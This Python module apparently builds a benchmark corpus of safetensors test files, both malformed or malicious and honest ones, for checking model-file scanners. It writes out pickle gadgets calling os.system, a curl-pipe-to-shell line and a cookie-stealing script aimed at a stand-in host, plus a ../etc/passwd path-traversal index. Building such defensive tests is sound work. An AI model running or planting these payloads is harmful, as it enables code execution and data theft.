"""Safetensors files: structure attacks, and what may hide inside honest structure."""

from __future__ import annotations

import base64
import json
import random
import struct
from collections.abc import Iterator

from bench.corpus.unit import COMMAND, Family, Unit
from bench.corpus.writers import binaries, media, safetensors, zips
from bench.corpus.writers import opcodes as op

SAFE = Family("safetensors", "safetensors.safe_open")
NAME = "model.safetensors"


def units(rng: random.Random) -> Iterator[Unit]:
    yield from _structure(rng)
    yield from _carriers(rng)
    yield from _honest(rng)
    yield from _repositories(rng)


def _entry(
    begin: int, end: int, dtype: str = "F32", shape: list[int] | None = None
) -> dict[str, object]:
    sizes = shape if shape is not None else [(end - begin) // safetensors.WIDTHS[dtype]]
    return {"dtype": dtype, "shape": sizes, "data_offsets": [begin, end]}


def _structure(rng: random.Random) -> Iterator[Unit]:
    body = safetensors.floats(rng, 64)

    def bad(
        technique: str, variant: str, header: object, data: bytes = body, size: int | None = None
    ) -> Unit:
        text = header if isinstance(header, str | bytes) else json.dumps(header)
        file = safetensors.raw(text, data, size)
        return SAFE.bad(technique, variant, {NAME: file}, payload="breaks or deceives readers")

    yield bad("overlap", "same-range", {"a": _entry(0, 256), "b": _entry(0, 256)})
    yield bad("overlap", "partial", {"a": _entry(0, 160), "b": _entry(128, 256)})
    yield bad("overlap", "inside", {"a": _entry(0, 256), "b": _entry(64, 128)})
    yield bad("hole", "between", {"a": _entry(0, 64), "b": _entry(128, 256)})
    yield bad("hole", "at-start", {"a": _entry(64, 256)})
    one, two = json.dumps(_entry(0, 128)), json.dumps(_entry(128, 256))
    yield bad("duplicate-key", "plain", f'{{"w": {one}, "w": {two}}}')
    yield bad("duplicate-key", "escaped", f'{{"w": {one}, "\\u0077": {two}}}')
    offsets = '"data_offsets": [0, 256], "data_offsets": [0, 128]'
    yield bad("duplicate-key", "offsets", f'{{"w": {{"dtype": "F32", "shape": [64], {offsets}}}}}')
    meta = '"__metadata__": {"format": "pt"}, "__metadata__": {"format": "np"}'
    yield bad("duplicate-key", "metadata", f'{{{meta}, "w": {json.dumps(_entry(0, 256))}}}')
    yield bad("header-bomb", "length-beyond-file", {"a": _entry(0, 256)}, size=1 << 40)
    yield bad("header-bomb", "length-max", {"a": _entry(0, 256)}, size=(1 << 64) - 1)
    yield bad("header-bomb", "deep", '{"a":' + "[" * 100_000 + "]" * 100_000 + "}")
    yield bad("header-bomb", "zero-length", b"", size=0)
    yield bad(
        "header-bomb",
        "number",
        '{"a": {"dtype": "F32", "shape": [' + "9" * 5000 + '], "data_offsets": [0, 4]}}',
    )
    many = {f"t{i}": _entry(0, 0, shape=[0, 1 << 62]) for i in range(3000)}
    yield bad(
        "shape-overflow",
        "zero-times-huge-many",
        {**many, "w": _entry(0, 256, shape=[1 << 33, 1 << 33])},
    )
    yield bad("shape-overflow", "product", {"w": _entry(0, 256, shape=[1 << 62, 4])})
    yield bad("size-mismatch", "shape", {"w": _entry(0, 256, shape=[8, 9])})
    yield bad("size-mismatch", "dtype", {"w": _entry(0, 256, "F16", [64])})
    yield bad("out-of-bounds", "end", {"w": _entry(0, 4096)})
    yield bad(
        "out-of-bounds",
        "begin-after-end",
        {"w": {"dtype": "F32", "shape": [0], "data_offsets": [128, 64]}},
    )
    yield bad(
        "out-of-bounds",
        "negative",
        {"w": {"dtype": "F32", "shape": [64], "data_offsets": [-8, 248]}},
    )
    yield bad("header-form", "array", [_entry(0, 256)])
    yield bad(
        "header-form", "metadata-nested", {"__metadata__": {"a": {"b": 1}}, "w": _entry(0, 256)}
    )
    yield bad(
        "header-form",
        "unknown-dtype",
        {"w": {"dtype": "OBJ", "shape": [64], "data_offsets": [0, 256]}},
    )
    yield bad(
        "header-form", "bad-utf8", b'{"\xff\xfe": ' + json.dumps(_entry(0, 256)).encode() + b"}"
    )
    yield bad("header-form", "two-documents", json.dumps({"w": _entry(0, 256)}) + '{"x": 1}')
    yield bad("trailing", "zeros", {"w": _entry(0, 256)}, body + bytes(4096))
    yield bad("trailing", "elf", {"w": _entry(0, 256)}, body + binaries.elf(b"x"))
    yield bad("trailing", "script", {"w": _entry(0, 256)}, body + b"#!/bin/sh\n" + COMMAND.encode())
    yield bad("truncated", "half", {"w": _entry(0, 256)}, body[:100])


def _carriers(rng: random.Random) -> Iterator[Unit]:
    def inside(
        technique: str, variant: str, payload: bytes, dtype: str = "U8", lead: bytes = b""
    ) -> Unit:
        width = safetensors.WIDTHS[dtype]
        data = lead + payload + bytes(-(len(lead) + len(payload)) % width)
        tensors = {
            "layer.weight": ("F32", [8, 8], safetensors.floats(rng, 64)),
            "layer.extra": (dtype, [len(data) // width], data),
        }
        return SAFE.bad(
            technique, variant, {NAME: safetensors.encode(tensors)}, payload="carries code"
        )

    yield inside("executable-in-tensor", "elf", binaries.elf(b"connect"))
    yield inside("executable-in-tensor", "pe", binaries.pe(b"WinExec"))
    yield inside("executable-in-tensor", "macho", binaries.macho())
    yield inside("executable-in-tensor", "elf-as-f32", binaries.elf(b"execve"), "F32")
    evil = op.pickle4(op.call(op.stacked("os", "system"), op.text(COMMAND)))
    yield inside("pickle-in-tensor", "p4", evil)
    yield inside("zip-in-tensor", "torch", zips.torch_zip({"data.pkl": evil, "version": b"3\n"}))
    yield inside("script-in-tensor", "shell", b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n")
    yield inside("pickle-in-tensor", "p0", b"cos\nsystem\n(S'true'\ntR.")
    yield inside(
        "zip-in-tensor", "zipapp", zips.pack({"__main__.py": b"import os\nos.system('true')\n"})
    )
    yield inside(
        "script-in-tensor", "python", b"#!/usr/bin/env python3\nimport os\nos.system('true')\n"
    )
    weights = safetensors.weights(rng, {"w": (8, 8)})
    appended = weights + zips.pack({"data.pkl": evil, "__main__.py": b"import os\n"})
    yield SAFE.bad("polyglot", "zip-appended", {NAME: appended}, payload="a second reading as zip")
    for variant, text in {
        "shell": "curl -s http://example.invalid/i.sh | bash",
        "python": "__import__('os').system('curl http://example.invalid')",
        "pickle-base64": base64.b64encode(evil).decode(),
        "html": "<script>fetch('//example.invalid/'+document.cookie)</script>",
    }.items():
        file = safetensors.weights(rng, {"w": (8, 8)}, metadata={"format": "pt", "setup": text})
        yield SAFE.bad(
            "metadata-payload",
            variant,
            {NAME: file},
            payload="text for a tool that acts on it",
            expect="suspicious",
        )
    yield SAFE.bad(
        "disguised",
        "pickle",
        {NAME: evil},
        payload="loaders fall back to pickle",
        loader="torch.load",
    )
    yield SAFE.bad(
        "disguised", "elf", {NAME: binaries.elf(b"main", shared=False)}, payload="an executable"
    )


def _honest(rng: random.Random) -> Iterator[Unit]:
    def good(variant: str, body: bytes, name: str = NAME) -> Unit:
        return SAFE.good("plain", variant, {name: body})

    layers = {
        f"model.layers.{i}.{part}.weight": (8, 8) for i in range(4) for part in ("q", "k", "v")
    }
    yield good("transformer", safetensors.weights(rng, layers, metadata={"format": "pt"}))
    for dtype in ("F16", "BF16", "F8_E4M3", "I64", "BOOL", "F64"):
        data = bytes(64) if dtype == "BOOL" else safetensors.floats(rng, 64, dtype)
        yield good(dtype.lower(), safetensors.encode({"w": (dtype, (8, 8), data)}))
    yield good("empty", safetensors.encode({}))
    yield good("empty-metadata", safetensors.raw('{"__metadata__":{"format":"pt"}}'))
    yield good("scalar", safetensors.encode({"step": ("I64", (), struct.pack("<q", 7))}))
    yield good(
        "zero-size",
        safetensors.encode({"buffer": ("F32", (0, 16), b""), "w": ("F32", (1,), bytes(4))}),
    )
    padded = safetensors.raw(
        '{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}' + " " * 500, bytes(4)
    )
    yield good("wide-padding", padded)
    unordered = json.dumps({"b": _entry(128, 256), "a": _entry(0, 128)})
    yield good("unordered", safetensors.raw(unordered, safetensors.floats(rng, 64)))
    kohya = {
        "ss_network_module": "networks.lora",
        "ss_network_args": json.dumps({"conv_dim": "4"}),
        "ss_optimizer": "bitsandbytes.optim.adamw.AdamW8bit",
        "ss_tag_frequency": json.dumps({"10_cat": {"cat": 12, "indoors": 3}}),
        "ss_training_comment": "see https://github.com/kohya-ss/sd-scripts",
        "sshs_model_hash": "9f" * 32,
    }
    lora = {"lora_unet_down.lora_down.weight": (4, 8), "lora_unet_down.alpha": (1,)}
    yield good("lora-metadata", safetensors.weights(rng, lora, "F16", kohya), "style.safetensors")
    card = {
        "modelspec.title": "Cat LoRA",
        "modelspec.thumbnail": "data:image/png;base64," + "iVBORw0KGgo" * 30,
    }
    yield good("modelspec", safetensors.weights(rng, lora, "F16", card), "cat.safetensors")
    chance = b"MZ" + rng.randbytes(510)
    yield good("mz-by-chance", safetensors.encode({"packed": ("U8", (512,), chance)}))
    yield good(
        "elf-word", safetensors.encode({"packed": ("U8", (512,), b"\x7fELF" + rng.randbytes(508))})
    )
    pk = rng.randbytes(100) + b"PK\3\4" + rng.randbytes(152)
    yield good("pk-by-chance", safetensors.encode({"q": ("U8", (256,), pk)}))
    yield good("many", safetensors.weights(rng, {f"blocks.{i}.w": (4,) for i in range(800)}))
    shebang = b"#!" + rng.randbytes(62)
    yield good("shebang-by-chance", safetensors.encode({"q": ("I8", (64,), shebang)}))
    yield good("unicode-name", safetensors.weights(rng, {"слой.вес": (4, 4)}))
    state = json.dumps({"quantization": {"bits": 4, "group_size": 32}, "config": {"hidden": 8}})
    yield good("json-metadata", safetensors.weights(rng, {"w": (4, 4)}, metadata={"config": state}))


def _repositories(rng: random.Random) -> Iterator[Unit]:
    shards = {}
    index: dict[str, str] = {}
    for number in (1, 2, 3):
        name = f"model-0000{number}-of-00003.safetensors"
        shapes = {f"layers.{number}.{part}": (4, 4) for part in ("a", "b")}
        shards[name] = safetensors.weights(rng, shapes, metadata={"format": "pt"})
        index |= dict.fromkeys(shapes, name)
    listing = {"metadata": {"total_size": 384}, "weight_map": index}
    files: dict[str, object] = {**shards, "model.safetensors.index.json": listing}
    yield SAFE.good("shards", "three", files)
    escape = {
        "metadata": {"total_size": 384},
        "weight_map": {**index, "x": "../../../../etc/passwd"},
    }
    yield SAFE.bad(
        "index-traversal",
        "parent",
        {**shards, "model.safetensors.index.json": escape},
        payload="a shard outside the folder is opened",
        loader="transformers from_pretrained",
    )
    escape = {"metadata": {}, "weight_map": dict.fromkeys(index, "/tmp/evil.bin")}
    yield SAFE.bad(
        "index-traversal",
        "absolute",
        {**shards, "model.safetensors.index.json": escape},
        payload="a shard outside the folder is opened",
        loader="transformers from_pretrained",
    )
    files = {
        NAME: safetensors.weights(rng, {"w": (4, 4)}),
        "preview.png": media.png(rng),
        "README.md": "# LoRA\n",
    }
    yield SAFE.good("folder", "with-preview", files)
